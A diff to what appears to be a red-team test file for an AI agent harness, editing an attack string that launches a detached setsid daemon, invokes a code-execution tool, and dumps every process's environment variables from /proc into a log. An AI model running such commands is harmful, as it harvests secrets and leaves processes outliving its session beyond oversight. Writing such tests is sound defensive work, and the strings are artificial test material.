@@ -125,7 +125,8 @@ ATTACKS: dict[str, str] = {
         + _WRONG
         + f"cat > /filesystem/d.sh <<'EOF'\n{_DAEMON}EOF\n"
         + "setsid bash /filesystem/d.sh hb-exec.txt < /dev/null > /dev/null 2>&1 &\n"
-        + "code='setsid bash /filesystem/d.sh hb-gateway.txt < /dev/null > /dev/null 2>&1 &'\n"
+        + "code='setsid bash /filesystem/d.sh hb-gateway.txt < /dev/null > /dev/null 2>&1 & "
+        + "until [ -s /logs/agent/hb-gateway.txt ]; do sleep 0.01; done'\n"
         + 'args=$("$KWRL_PYTHON" -c \'import json, sys; print(json.dumps({"request": {"code": sys.argv[1]}}))\' "$code")\n'
         + '"$KWRL_PYTHON" -m kwrl.cli world call code_execution_code_exec "$args" > /logs/agent/code-exec.txt 2>&1\n'
         + "for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; done > /logs/agent/environ.txt 2>&1\n"
